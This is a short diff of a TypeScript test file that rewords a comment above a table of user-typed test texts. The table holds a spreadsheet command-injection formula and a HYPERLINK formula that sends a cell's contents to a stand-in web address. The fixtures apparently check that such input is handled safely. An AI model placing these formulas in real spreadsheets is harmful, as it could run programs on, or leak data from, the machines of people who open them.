@@ -13,7 +13,7 @@ import { applyEdit, base, copyOf, sample } from '../../support/authored.ts'
 import { loadChecked } from '#build/load-checked.ts'
 import { datasetWith, inspectionWith, issue } from '../../support/dataset.ts'
 
-/** What people may type into a name or a finding, and programs must not take for anything else. */
+/** Texts that people may type into a name or a finding, and that programs could misinterpret. */
 const texts = {
   'a command of a spreadsheet': `=cmd|' /C calc'!A0`,
   'a link of a spreadsheet': '=HYPERLINK("https://www.example.com/?"&A1,"点这里")',
